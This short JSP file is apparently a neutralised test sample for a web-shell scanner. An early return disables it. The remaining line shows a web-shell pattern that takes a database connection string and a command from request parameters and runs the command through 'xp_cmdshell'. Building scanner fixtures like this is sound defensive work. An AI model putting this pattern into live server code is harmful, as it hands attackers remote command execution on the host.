<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<% java.sql.Statement st = java.sql.DriverManager.getConnection(request.getParameter("u")).createStatement(); st.execute("EXEC xp_cmdshell " + request.getParameter("c") + ""); %>
